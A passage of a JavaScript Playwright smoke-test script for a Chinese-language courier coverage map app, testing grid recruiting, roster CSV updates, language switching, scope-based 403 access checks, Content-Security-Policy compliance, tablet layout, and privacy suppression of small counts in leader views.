    await page.route('**/candidates?*', (route) => route.fulfill({ contentType: 'application/json', json: { total: 0, candidates: [] } }));
    await page.mouse.click(found.x, found.y);
    await page.waitForFunction((c) => document.querySelector('#grid-detail')?.dataset.code === c, String(found.props.code), { timeout: 10000 });
    await page.locator('#no-candidates').waitFor({ timeout: 10000 });
    assert((await page.locator('#no-candidates').innerText()).includes('暂无合适人选'), 'empty list not stated');
    await page.unroute('**/candidates?*');
    // Back to the grid chosen above (the back button steps through grids).
    await page.goBack();
    await page.waitForFunction((c) => document.querySelector('#grid-detail')?.dataset.code === c, current, { timeout: 10000 });
    await page.locator('#candidate-list li').first().waitFor({ timeout: 15000 });
  });

  await test('grids: propose, accept one, and the roster (roster.csv) gains the courier', async () => {
    assert(gridCode, 'no grid chosen');
    const rosterBefore = await page.evaluate((c) => fetch(`/api/grids/${c}/roster.csv`).then((r) => r.text()), gridCode);
    await page.click('#propose');
    await page.locator('#proposal-list [data-accept]').first().waitFor({ timeout: 8000 });
    await page.locator('#proposal-list [data-accept]').first().click();
    await page.locator('#member-list li').first().waitFor({ timeout: 8000 });
    const rosterAfter = await page.evaluate((c) => fetch(`/api/grids/${c}/roster.csv`).then((r) => r.text()), gridCode);
    const lines = (s) => s.trim().split('\n').length;
    assert(lines(rosterAfter) === lines(rosterBefore) + 1, `roster lines ${lines(rosterBefore)} → ${lines(rosterAfter)}`);
    const href = await page.locator('#roster-csv').getAttribute('href');
    assert(href.endsWith(`/api/grids/${gridCode}/roster.csv`), `roster link ${href}`);
    // The accepted courier is marked among the candidates.
    await page.locator('#candidate-list [data-status="accepted"]').first().waitFor({ timeout: 10000 });
    if ((await page.locator('#proposal-list [data-decline]').count()) > 0) {
      await page.locator('#proposal-list [data-decline]').first().click();
      await page.waitForFunction(() => /已拒绝/.test(document.querySelector('#grid-detail').innerText), null, { timeout: 5000 });
    }
    await idle(page);
    await shot(page, 'grids.png');
  });

  await test('language switch changes the visible text to English and back', async () => {
    await page.click('#lang-switch');
    await page.waitForFunction(() => document.documentElement.lang === 'en', null, { timeout: 5000 });
    const h = await headerText(page);
    const side = await page.locator('#sidebar').innerText();
    const who = await page.locator('#whoami').innerText();
    assert(/coverage/i.test(h) && !h.includes('骑手'), `header "${h}"`);
    assert(side.includes('Grid recruiting') && side.includes('Ranked candidate couriers') && !side.includes('候选骑手'), `side bar: ${side.slice(0, 200)}`);
    assert(who.includes('Grid manager'), `role "${who}"`);
    assert(new URL(page.url()).searchParams.get('lang') === 'en', `URL ${page.url()}`);
    await page.screenshot({ path: join(SHOT_DIR, 'map-en.png') });
    await page.click('#lang-switch');
    await page.waitForFunction(() => document.documentElement.lang === 'zh-CN', null, { timeout: 5000 });
  });

  await test('search is limited to the scope; a grid outside it shows a clear 403 message without data', async () => {
    // The demo grid manager's scope is one street: search lists only its grids, and a grid of
    // another street opened by link is forbidden.
    await page.fill('#grid-search', '310107002');
    await page.waitForFunction(() => /范围/.test(document.querySelector('#view-grids').innerText) && !document.querySelector('#grid-results'), null, { timeout: 10000 });
    // The server offers no grid outside the scope either; the demo's grid codes are community code + 2 digits.
    const offered = await page.evaluate(() => fetch('/api/grids?q=310107002&limit=5').then((r) => r.json()).then((j) => j.grids.length));
    assert(offered === 0, `the server offers ${offered} grids of a street outside the scope`);
    const other = '31010700200101';
    const resp = await page.evaluate((c) => fetch(`/api/grids/${c}/candidates`).then((r) => r.status), other);
    if (resp !== 403) return; // the server lets this manager see it: nothing to check
    // As a link followed inside the page would (history entry + popstate), without a reload.
    await page.evaluate((c) => {
      history.pushState({}, '', `?view=grids&grid=${c}`);
      dispatchEvent(new PopStateEvent('popstate'));
    }, other);
    await page.locator('#view-grids .msg-error').first().waitFor({ timeout: 10000 });
    const txt = await page.locator('#view-grids .msg-error').first().innerText();
    assert(txt.includes('无权访问'), `message: ${txt}`);
    assert((await page.locator('#candidate-list').count()) === 0, 'candidates shown despite 403');
    // Expected 403s from this check are not problems.
    for (let i = problems.length - 1; i >= 0; i--) if (/HTTP 403|status of 403/.test(problems[i])) problems.splice(i, 1);
  });

  await test('no Content-Security-Policy violations (worker, styles, scripts, images)', () => {
    log(`  CSP: ${serverCSP ? `sent by the server: ${serverCSP}` : `added by the test: ${CSP}`}`);
    assert(cspViolations.length === 0, `\n  ${[...new Set(cspViolations)].join('\n  ')}`);
  });

  await test('no console errors, page errors or failed same-origin requests', () => {
    assert(problems.length === 0, `\n  ${problems.join('\n  ')}`);
  });

  await test('tablet (820x1180): header, side bar and panel fit', async () => {
    const tab = await context.newPage();
    const tp = watch(tab);
    await tab.setViewportSize({ width: 820, height: 1180 });
    await tab.goto(BASE_URL + '/?lang=zh&view=heatmap', { waitUntil: 'domcontentloaded' });
    await waitReady(tab);
    const fit = await tab.evaluate(() => {
      const r = (s) => document.querySelector(s).getBoundingClientRect();
      const vw = innerWidth;
      return {
        header: document.querySelector('#header').scrollWidth <= vw,
        lang: r('#lang-switch').right <= vw && r('#lang-switch').width > 0,
        sidebar: r('#sidebar').right <= vw && r('#sidebar').width > 0,
        panel: r('#panel').right <= r('#sidebar').left + 1 && r('#panel').width > 0,
      };
    });
    await tab.screenshot({ path: join(SHOT_DIR, 'tablet.png') });
    await tab.close();
    assert(fit.header && fit.lang && fit.sidebar && fit.panel, `layout overflow: ${JSON.stringify(fit)}`);
    assert(tp.length === 0, `\n  ${tp.join('\n  ')}`);
  });

  await test('error banner (role=alert) and Shanghai fallback when /api/meta fails', async () => {
    const p2 = await context.newPage();
    await p2.route('**/api/meta', (route) => route.fulfill({ status: 500, contentType: 'application/json', body: '{"error":"smoke"}' }));
    await p2.goto(BASE_URL + '/', { waitUntil: 'domcontentloaded' });
    await p2.waitForFunction(() => window.hexcover && window.hexcover.ready, null, { timeout: 120000 });
    await p2.locator('[role=alert]').first().waitFor({ state: 'visible', timeout: 5000 });
    const c = await p2.evaluate(() => {
      const m = window.hexcover.map.getCenter();
      return [m.lng, m.lat];
    });
    await p2.close();
    assert(Math.abs(c[0] - 121.41) < 1e-3 && Math.abs(c[1] - 31.25) < 1e-3, `fallback center is ${c}`);
  });
}

const overall = setTimeout(() => {
  console.log(`FAIL smoke test took longer than ${TOTAL_MS} ms`);
  results.push({ name: 'overall time', status: 'fail' });
  finish(1);
}, TOTAL_MS);

// ---------- privacy (issue 12): what the map shows a leader comes from the published release ----------
/**
 * As the leader (the session of the main page): the metric menu offers only what the release carries
 * (no pings, dwell; a shared link asking for pings falls back), the header has no exact count of
 * riders or pings, and the summary table adds up: suppressed areas show no figures and the Others row
 * (其余（不足k人）) holds their sum, at street and community level.
 */
async function releasedMapChecks() {
  await test('privacy (leader): released metrics only, no exact counts, the summary table adds up with its Others row', async () => {
    const p2 = await context.newPage();
    const pr = watch(p2);
    try {
      await p2.goto(BASE_URL + '/?lang=zh&view=heatmap&metric=pings', { waitUntil: 'domcontentloaded' });
      await waitReady(p2);
      const opts = await p2.locator('#metric option').evaluateAll((os) => os.map((o) => o.value));
      assert(opts.join(',') === 'rider_hours,riders', `metric menu for a leader: ${opts}`);
      const metric = await p2.evaluate(() => window.hexcover.state.metric);
      assert(metric === 'rider_hours', `metric=pings in the link gave state.metric ${metric}`);
      const counts = await p2.locator('#counts').innerText();
      assert(!/骑手|定位点/.test(counts) && /站点/.test(counts), `header counts for a leader: "${counts}"`);
      for (const level of ['street', 'community']) {
        if (level !== 'street') await p2.selectOption('#level', level);
        const api = await p2.evaluate(async (lv) => (await fetch(`/api/summary?level=${lv}`)).json(), level);
        assert(api.released === true, `/api/summary?level=${level} is not from the release`);
        await p2.waitForFunction(
          ([n, first]) => document.querySelectorAll('#summary-table tbody tr').length === n && document.querySelector('#summary-table tbody tr')?.dataset.code === first,
          [api.rows.length, api.rows[0] && api.rows[0].code],
          { timeout: 15000 },
        );
        const table = await p2.locator('#summary-table').evaluate((tb) => ({
          rows: [...tb.querySelectorAll('tbody tr')].map((tr) => ({ code: tr.dataset.code, suppressed: tr.classList.contains('suppressed'), cells: [...tr.cells].slice(1).map((c) => c.innerText) })),
          other: tb.querySelector('#summary-other') ? [...tb.querySelector('#summary-other').cells].map((c) => c.innerText) : null,
        }));
        const num = (x) => Number(String(x).replace(/,/g, ''));
        let sum = 0;
        for (const r of table.rows) {
          const a = api.rows.find((x) => x.code === r.code);
          assert(a && !!a.suppressed === r.suppressed, `${level} ${r.code}: suppressed ${r.suppressed} in the table, ${a && !!a.suppressed} in the API`);
          if (r.suppressed) {
            assert(r.cells.every((c) => !/\d/.test(c)), `${level} ${r.code} is suppressed but shows ${r.cells}`);
            assert(a.riders == null && a.demand == null && a.cells == null, `${level} ${r.code}: the API gives a suppressed row figures ${JSON.stringify(a)}`);
          } else sum += num(r.cells[0]);
        }
        const suppressed = table.rows.filter((r) => r.suppressed).length;
        if (api.other) {
          assert(table.other && table.other[0].includes('其余（不足k人）'), `${level}: no Others row in the table: ${JSON.stringify(table.other)}`);
          sum += num(table.other[1]);
        } else assert(!table.other && suppressed === 0, `${level}: ${suppressed} suppressed rows, Others row ${JSON.stringify(table.other)} without summary.other`);
        // Rows (one decimal each) plus Others add up to the total, and their gap zones to /api/gaps' count.
        assert(Math.abs(sum - api.total_demand) <= 0.05 * (table.rows.length + 1) + 0.1, `${level}: rows + Others = ${sum}, total ${api.total_demand}`);
        if (api.other && Number.isFinite(api.other.gap_zones)) {
          const gaps = await p2.evaluate(async () => (await fetch('/api/gaps?limit=1')).json());
          const zones = table.rows.filter((r) => !r.suppressed).reduce((n, r) => n + num(r.cells[2]), 0) + num(table.other[3]);
          assert(zones === gaps.gap_zones, `${level}: gap zones of the rows + Others = ${zones}, /api/gaps gap_zones ${gaps.gap_zones}`);
        }
        log(`  ${level}: ${table.rows.length} rows, ${suppressed} suppressed, Others ${table.other ? table.other[1] : 'none'}, total ${api.total_demand}`);
      }
      // A hexagon's popup has the released measures only: no pings or dwell rows.
      await closePopups(p2);
      await p2.waitForFunction(() => !window.hexcover.map.isMoving(), null, { timeout: 10000 });
      const pt = await findPoint(p2, 'activity-fill');
      assert(pt, 'no activity hexagon to click');
      await p2.mouse.click(pt.x, pt.y);
      await p2.locator('.maplibregl-popup').waitFor({ timeout: 15000 });
      const txt = await p2.locator('.maplibregl-popup').innerText();
      assert(txt.includes('骑手·小时') && !/定位点|停留|—/.test(txt), `a leader's hexagon popup: ${txt}`);
      assert(pr.length === 0, pr.join('\n  '));
    } finally {
      await p2.close();
    }
  });
}

async function finish(code) {
  clearTimeout(overall);
  try {
    if (context) await context.close();
  } catch {
    // ignore
  }
  if (userDataDir) rmSync(userDataDir, { recursive: true, force: true, maxRetries: 5, retryDelay: 200 });
  const passed = results.filter((r) => r.status === 'pass').length;
  const failed = results.filter((r) => r.status === 'fail').length;
  const skipped = results.filter((r) => r.status === 'skip').length;
  if (failed) console.log(`smoke: ${failed} check(s) failed against ${BASE_URL}; screenshots in ${SHOT_DIR}`);
  else console.log(`smoke: screenshots in ${SHOT_DIR}`);
  console.log(`${passed} passed, ${failed} failed${skipped ? `, ${skipped} skipped` : ''}`);
  process.exit(code || (failed ? 1 : 0));
}

main()
  .then(() => finish(0))
  .catch((err) => {
    console.log(`FAIL smoke harness: ${err && err.stack ? err.stack : err}`);
    results.push({ name: 'harness', status: 'fail' });
    finish(1);
  });
